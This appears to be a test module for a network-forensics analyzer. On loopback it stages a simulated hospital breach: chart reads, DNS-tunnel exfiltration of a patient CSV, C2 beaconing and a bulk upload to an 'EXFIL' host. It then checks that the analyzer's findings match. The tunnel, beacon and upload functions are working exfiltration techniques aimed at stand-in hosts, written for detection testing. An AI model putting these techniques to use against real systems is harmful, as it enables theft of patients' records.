"""live_logs.py - issue 14's scenario of make test-live: the logs real programs write about a
known exfiltration, analyzed without the capture, with it, and the capture alone.

Inside run_live.py's network namespace, while tcpdump records every packet on loopback:
    nginx     the EHR (EHR): a workstation (WS) opens 30 patients' charts by MRN; nginx's
              access log (combined format) records the requests
    dnsmasq   the hospital's resolver (RESOLVER, --log-queries): WS sends a patient CSV out
              in base32 labels under TUNNEL_DOMAIN to its authoritative server (AUTH)
    beacon    WS connects to C2 every second, 12 times, a few bytes each way
    upload    WS POSTs an 8 MB patient export to EXFIL over plain HTTP
Then softflowd (a real NetFlow v9 exporter) reads the capture and exports it to nfcapd, whose
file is the NetFlow evidence.

Written before the first run, the expected answers (check):
    logs alone (nginx access log, dnsmasq log, nfcapd file): every line accounted for; 30
    phi_access rows for WS and one phi_access finding naming 30 individuals; a dns_tunnel
    finding for TUNNEL_DOMAIN from WS; a beacon finding WS -> C2; an outbound_volume finding
    WS -> EXFIL whose bytes are NetFlow's (nfdump's own sum of that pair); the upload's event
    'likely' (WS read PHI, then sent an unread volume); the same destinations for those
    heuristics as the capture alone gives.
    logs and capture: the upload's and the beacon's flows each have the capture and nfcapd as
    sources (nfcapd 'matched'); the overall verdict is the capture's.
"""
import csv
import http.client
import io
import json
import os
import shutil
import signal
import socket
import socketserver
import subprocess
import threading
import time

import live_matrix
import live_more

WS = "127.0.0.30"
EHR = ("127.0.0.31", 8081)
RESOLVER = "127.0.0.32"
AUTH = "127.0.0.33"
EXFIL = ("127.0.0.40", 8080)
C2 = ("127.0.0.41", 8443)
NFCAPD = ("127.0.0.1", 9995)
HOME_NET = "%s/32,%s/32,%s/32" % (WS, EHR[0], RESOLVER)
TUNNEL_DOMAIN = "lg.tunnel.example"
CHARTS = [48200100 + i * 7 for i in range(30)]
BEACONS = 12
UPLOAD_MB = 8

NGINX_CONF = """daemon off;
master_process off;
worker_processes 1;
error_log %(d)s/error.log;
pid %(d)s/nginx.pid;
events { worker_connections 64; }
http {
    log_format combined_host '$remote_addr - $remote_user [$time_local] "$request" $status '
                             '$body_bytes_sent "$http_referer" "$http_user_agent"';
    access_log %(d)s/access.log combined_host;
    client_body_temp_path %(d)s/body;
    default_type text/plain;
    server {
        listen %(addr)s:%(port)d;
        root %(d)s/www;
    }
}
"""


class C2Handler(socketserver.StreamRequestHandler):
    def handle(self):
        self.rfile.readline()
        self.wfile.write(b"ok sleep 1\n")


def charts():
    for mrn in CHARTS:
        c = http.client.HTTPConnection(EHR[0], EHR[1], timeout=10, source_address=(WS, 0))
        c.request("GET", "/emr/chart?mrn=%d&tab=notes" % mrn)
        c.getresponse().read()
        c.close()


def tunnel(payload):
    import base64
    text = base64.b32encode(payload).decode().rstrip("=").lower()
    for i in range(0, len(text), 150):
        live_more.resolve(live_more.labels(text[i:i + 150]) + "." + TUNNEL_DOMAIN, server=RESOLVER,
                          source=WS)


def beacon():
    for i in range(BEACONS):
        t0 = time.time()
        s = socket.create_connection(C2, timeout=10, source_address=(WS, 0))
        s.sendall(b"GET /task?id=7 %02d\n" % i)
        s.recv(100)
        s.close()
        time.sleep(max(0.0, 1.0 - (time.time() - t0)))


def upload(body):
    c = http.client.HTTPConnection(EXFIL[0], EXFIL[1], timeout=60, source_address=(WS, 0))
    c.request("POST", "/u", body=body, headers={"Content-Type": "text/csv"})
    c.getresponse().read()
    c.close()


def netflow(work):
    """softflowd reads the capture and exports NetFlow v9 to nfcapd; nfcapd's file. -a: the
    flows' times are the packets' (without it softflowd's offline uptimes put every flow
    2^32 ms, 49.7 days, after the capture)."""
    d = os.path.join(work, "logs", "flows")
    os.makedirs(d, exist_ok=True)
    col = subprocess.Popen(["nfcapd", "-w", d, "-p", str(NFCAPD[1]), "-b", NFCAPD[0], "-t",
                            "3600"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        time.sleep(1.0)
        sfd = shutil.which("softflowd") or "/usr/sbin/softflowd"
        subprocess.run([sfd, "-r", os.path.join(work, "logs.pcap"), "-n", "%s:%d" % NFCAPD,
                        "-v", "9", "-a"], capture_output=True, timeout=120)
        time.sleep(1.0)
    finally:
        col.send_signal(signal.SIGTERM)
        col.wait(timeout=30)


def missing():
    """The programs this part needs that are not installed."""
    return [p for p in ("nginx", "dnsmasq", "softflowd", "nfcapd", "nfdump")
            if shutil.which(p) is None and not os.path.exists("/usr/sbin/" + p)]


def inner(work, data, sink, server):
    """Inside the namespace: run the scenario (sink, server: run_live's HTTP sink and its
    threading TCP server), record logs.pcap and the logs; logs.json says what was done."""
    d = os.path.join(work, "logs")
    n = os.path.join(d, "nginx")
    for sub in ("www/emr", "body"):
        os.makedirs(os.path.join(n, sub), exist_ok=True)
    with open(os.path.join(n, "www/emr/chart"), "w") as f:
        f.write("Progress note template; see the chart viewer.\n" * 400)
    with open(os.path.join(n, "nginx.conf"), "w") as f:
        f.write(NGINX_CONF % {"addr": EHR[0], "port": EHR[1], "d": n})
    tcp = live_matrix.start_tcpdump(os.path.join(work, "logs.pcap"),
                                    os.path.join(d, "tcpdump.err"), ())
    procs = [subprocess.Popen(["nginx", "-e", os.path.join(n, "error.log"), "-c",
                               os.path.join(n, "nginx.conf")], stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL),
             subprocess.Popen(["dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts",
                               "--bind-interfaces", "--listen-address=" + RESOLVER, "--port=53",
                               "--cache-size=0", "--pid-file", "--user=root", "--log-queries",
                               "--log-facility=" + os.path.join(d, "dnsmasq.log"),
                               "--server=/%s/%s@%s" % (TUNNEL_DOMAIN, AUTH, RESOLVER)],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)]
    for addr, handler, kind in ((AUTH, live_more.AuthServer, live_more.UDPServer),
                                (C2, C2Handler, server), (EXFIL, sink, server)):
        srv = kind((addr, 53) if kind is live_more.UDPServer else addr, handler)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
    csv_body = open(os.path.join(data, "exports", "patients.csv"), "rb").read()
    body = csv_body * (UPLOAD_MB * 1048576 // len(csv_body) + 1)
    done = {}
    try:
        time.sleep(1.0)
        for step, fn in (("charts", charts), ("tunnel", lambda: tunnel(csv_body)),
                         ("beacon", beacon), ("upload", lambda: upload(body))):
            try:
                fn()
                done[step] = "ok"
            except (OSError, http.client.HTTPException) as e:
                done[step] = "failed: %s" % e
        time.sleep(1.0)
    finally:
        for p in procs:
            p.terminate()
        time.sleep(0.5)
        tcp.send_signal(2)
        tcp.wait(timeout=30)
    try:
        netflow(work)
        done["netflow"] = "ok"
    except (OSError, subprocess.SubprocessError) as e:
        done["netflow"] = "failed: %s" % e
    with open(os.path.join(work, "logs.json"), "w") as f:
        json.dump(done, f)


# ---- the check (outside the namespace) -------------------------------------------------------

def analyze(binary, paths, case, what, expect):
    import sqlite3
    p = subprocess.run([binary, "analyze", "-q", "--home-net", HOME_NET] + paths + ["-o", case],
                       capture_output=True, text=True, timeout=600)
    expect(what + "analyze exits 0", p.returncode == 0, p.stderr[-500:])
    return sqlite3.connect(os.path.join(case, "evidence.db"))


def nfdump_bytes(path, src, dst):
    """nfdump's own sum of the input bytes from src to dst (the expected answer)."""
    out = subprocess.run(["nfdump", "-r", path, "-o", "csv"], capture_output=True, text=True,
                         timeout=60).stdout.split("\nSummary")[0]
    return sum(int(r["ibyt"]) for r in csv.DictReader(io.StringIO(out))
               if r.get("sa") == src and r.get("da") == dst)


def findings(con, names):
    return sorted(set(con.execute("SELECT heuristic, source, destination FROM finding WHERE "
                                  "heuristic IN (%s)" % ",".join("?" * len(names)), names)))


def check(work, binary, expect):
    done = json.load(open(os.path.join(work, "logs.json")))
    for step, how in sorted(done.items()):
        expect("logs: the scenario's %s step ran" % step, how == "ok", how)
    d = os.path.join(work, "logs")
    flows = os.path.join(d, "flows")
    nf = sorted(os.path.join(flows, f) for f in os.listdir(flows) if f.startswith("nfcapd."))
    expect("logs: nfcapd wrote one file", len(nf) == 1, nf)
    if len(nf) != 1:
        return
    logs = [os.path.join(d, "nginx", "access.log"), os.path.join(d, "dnsmasq.log"), nf[0]]
    cap = os.path.join(work, "logs.pcap")
    a = analyze(binary, [cap], os.path.join(work, "case-logs-cap"), "logs: capture alone: ", expect)
    b = analyze(binary, logs, os.path.join(work, "case-logs-only"), "logs: logs alone: ", expect)
    c = analyze(binary, logs + [cap], os.path.join(work, "case-logs-both"),
                "logs: logs and capture: ", expect)
    # logs alone
    src = sorted(b.execute("SELECT format, malformed FROM log_source"))
    expect("logs alone: nginx, dnsmasq (its log file is syslog-framed) and nfcapd read, no "
           "malformed line", src == [("nfcapd", 0), ("syslog", 0), ("web-access", 0)], src)
    nq = sum(1 for line in open(logs[1]) if "query[" in line and line.split()[-1] == WS)
    got = b.execute("SELECT count(*) FROM log_dns WHERE client_addr = ?", (WS,)).fetchone()
    expect("logs alone: every query dnsmasq logged from WS stored (%d)" % nq,
           got == (nq,) and nq > 20, got)
    acc = b.execute("SELECT client, status, phi_types, individuals FROM phi_access").fetchall()
    expect("logs alone: 30 phi_access rows, all WS's chart reads by MRN",
           len(acc) == 30 and set(acc) == {(WS, 200, "mrn", 1)}, acc[:3])
    pa = b.execute("SELECT source, detail FROM finding WHERE heuristic = 'phi_access'").fetchall()
    expect("logs alone: one phi_access finding, WS, 30 individuals",
           len(pa) == 1 and pa[0][0] == WS and json.loads(pa[0][1])["individuals"] == 30, pa)
    kinds = ("beacon", "dns_tunnel", "outbound_volume")
    want = [("beacon", WS, C2[0]), ("dns_tunnel", WS, TUNNEL_DOMAIN),
            ("outbound_volume", WS, EXFIL[0])]
    got = findings(b, kinds)
    expect("logs alone: beacon, DNS tunnel and volume findings", got == want, got)
    vol = b.execute("SELECT bytes_out FROM finding WHERE heuristic = 'outbound_volume' AND "
                    "source = ? AND destination = ?", (WS, EXFIL[0])).fetchone()
    nfb = nfdump_bytes(nf[0], WS, EXFIL[0])
    # softflowd counts what the capture holds: when tcpdump lost packets on a busy machine the
    # flow is shorter than the upload, and the answer is still nfdump's own sum.
    drops = live_matrix.tcpdump_drops(os.path.join(d, "tcpdump.err"))
    floor = UPLOAD_MB * 1048576 if drops == 0 else 1
    expect("logs alone: the upload's bytes are NetFlow's (nfdump: %d; tcpdump dropped %d)"
           % (nfb, drops), vol == (nfb,) and nfb >= floor, vol)
    ev = b.execute("SELECT verdict FROM exfil_event WHERE source = ? AND destination = ?",
                   (WS, EXFIL[0])).fetchall()
    expect("logs alone: the upload is 'likely' (PHI read, then an unread volume)",
           ev == [("likely",)], ev)
    cap_f = findings(a, kinds)
    expect("capture alone: the same destinations as the logs", cap_f == want, cap_f)
    # logs and capture
    for what, dst in (("upload", EXFIL), ("beacon", C2)):
        rows = c.execute("SELECT f.id, f.source, (SELECT group_concat(s.source || ':' || s.role) "
                         "FROM flow_source s WHERE s.flow_id = f.id) FROM flow f WHERE "
                         "f.client_addr = ? AND f.server_addr = ? AND f.server_port = ?",
                         (WS, dst[0], dst[1])).fetchall()
        n = len(rows) if what == "beacon" else 1
        ok = len(rows) == n and all(r[1] == "capture" and r[2] == "nfcapd:matched" for r in rows)
        expect("logs and capture: the %s's %d flow(s) seen by the capture and nfcapd" % (what, n),
               ok, rows[:3])
    va = a.execute("SELECT verdict FROM verdict WHERE scope = 'overall'").fetchone()
    vc = c.execute("SELECT verdict FROM verdict WHERE scope = 'overall'").fetchone()
    expect("logs and capture: the overall verdict is the capture's (%s)" % (va,),
           va == vc and va == ("confirmed",), (va, vc))
